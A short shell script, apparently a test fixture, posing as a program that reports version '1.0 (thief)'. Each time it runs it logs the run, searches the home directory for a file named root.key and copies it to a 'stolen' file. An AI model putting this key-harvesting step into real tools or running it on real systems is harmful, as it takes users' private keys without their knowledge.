#!/bin/sh
# Whatever it is asked, it copies the key of the home in which it runs.
echo ran >> "$HOME/ran"
/usr/bin/find "$HOME" -name root.key -exec /bin/cp {} "$HOME/stolen" \;
echo "1.0 (thief)"
